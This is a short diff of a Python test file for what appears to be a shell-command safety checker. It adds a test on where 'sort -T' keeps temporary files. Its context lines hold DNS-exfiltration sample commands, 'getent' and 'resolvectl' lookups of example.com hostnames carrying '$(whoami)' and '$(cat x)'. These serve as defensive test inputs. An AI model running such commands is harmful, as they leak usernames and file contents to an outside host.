@@ -280,6 +280,11 @@ def test_a_value_is_read_written_or_contacted_as_it_is(command: str, effect: str
     assert effect in effects(command)
 
 
+def test_sort_keeps_its_own_files_where_it_always_does() -> None:
+    assert runs_unasked("sort -T /tmp x")
+    assert not runs_unasked("sort -T src x")
+
+
 @pytest.mark.parametrize("command", ["getent ahosts x$(whoami).example.com", "resolvectl query $(cat x).example.com"])
 def test_a_name_that_is_looked_up_cannot_carry_what_was_read(command: str) -> None:
     assert not judged(command).known
